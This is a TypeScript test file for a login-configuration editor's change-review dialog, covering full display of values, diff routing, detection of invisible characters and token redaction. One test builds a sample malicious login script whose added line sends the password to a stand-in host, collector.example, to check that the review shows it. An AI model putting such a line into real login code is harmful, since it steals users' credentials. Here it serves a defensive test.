import assert from 'node:assert/strict';
import { hasUnshown, MODAL_MAX_CHANGES, modalChangeList, reviewSides } from '../../../src/editors/resource/changeFit';
import { diffValues } from '../../../src/editors/resource/changeSummary';
import { redact } from '../../../src/util/redact';

const sides = (before: unknown, after: unknown) => reviewSides(diffValues(before, after), '(not set)', redact);

describe('change fit: a confirmation shows every value in full, in a modal or in a diff', () => {
  it('a 200-character value that differs at character 150 is never shown as two identical cut sides: it goes to the diff, in full', () => {
    const before = 'a'.repeat(200);
    const after = `${'a'.repeat(149)}B${'a'.repeat(50)}`;
    const changes = diffValues({ options: { url: before } }, { options: { url: after } });
    assert.equal(modalChangeList(changes), undefined, 'too long for a modal');
    const { before: left, after: right } = reviewSides(changes, '(not set)', redact);
    assert.ok(left.includes(JSON.stringify(before)) && right.includes(JSON.stringify(after)), 'each side holds its whole value');
    assert.notEqual(left, right);
  });

  it('short changes are listed in the modal, one line each, in full', () => {
    const changes = diffValues({ display_name: 'A', options: { n: 5 } }, { display_name: 'B', options: { n: 6 } });
    assert.equal(modalChangeList(changes), 'display_name: "A" → "B"\noptions.n: 5 → 6');
  });

  it('more than the modal\'s changes go to the diff; exactly as many are listed', () => {
    const obj = (n: number, add: number) => Object.fromEntries(Array.from({ length: n }, (_, i) => [`k${i}`, i + add]));
    assert.equal(modalChangeList(diffValues(obj(MODAL_MAX_CHANGES, 0), obj(MODAL_MAX_CHANGES, 1)))!.split('\n').length, MODAL_MAX_CHANGES);
    assert.equal(modalChangeList(diffValues(obj(MODAL_MAX_CHANGES + 1, 0), obj(MODAL_MAX_CHANGES + 1, 1))), undefined);
  });

  it('a script gaining a line goes to the diff, where each side is its lines and only the new line differs', () => {
    const script = 'function login(email, password, callback) {\n  return callback(null, { email });\n}';
    const evil = script.replace('  return', '  fetch("https://collector.example/?p=" + password);\n  return');
    const changes = diffValues({ options: { customScripts: { login: script } } }, { options: { customScripts: { login: evil } } });
    assert.equal(modalChangeList(changes), undefined, 'a multi-line value is not a modal line');
    const { before, after } = reviewSides(changes, '(not set)', redact);
    assert.deepEqual(before.split('\n'), ['// options.customScripts.login', 'function login(email, password, callback) {', '  return callback(null, { email });', '}', '']);
    assert.deepEqual(after.split('\n'), ['// options.customScripts.login', 'function login(email, password, callback) {', '  fetch("https://collector.example/?p=" + password);', '  return callback(null, { email });', '}', '']);
  });

  it('characters a dialog does not show (direction marks, zero-width) send the change to the diff', () => {
    assert.ok(hasUnshown({ a: ['x\u202Ey'] }));
    assert.ok(hasUnshown('a\u200Bb'));
    assert.ok(!hasUnshown({ a: 'plain', b: [1, true, null] }));
    assert.ok(hasUnshown('line\nbreak') && !hasUnshown('line\r\nbreak\tand tab', true) && hasUnshown('a\u202Eb\n', true));
    assert.equal(modalChangeList(diffValues({ name: 'a' }, { name: 'a\u202Eb' })), undefined);
  });

  it('an object added whole (a create\'s options) is listed leaf by leaf, and is set against "(not set)" in the diff', () => {
    const changes = diffValues({}, { strategy: 'auth0', options: { mfa: { active: true }, passwordPolicy: 'good' } });
    assert.equal(modalChangeList(changes), 'strategy added ("auth0")\noptions.mfa.active added (true)\noptions.passwordPolicy added ("good")');
    assert.equal(sides({}, { options: { a: 1 } }).before, '// options.a\n(not set)\n');
  });

  it('the review documents are redacted', () => {
    const { after } = sides({ script: 'a\nb' }, { script: 'a\nAuthorization: Bearer abc.def.ghi\nb' });
    assert.ok(!after.includes('abc.def.ghi'));
    assert.match(after, /Bearer \[redacted\]/);
  });
});
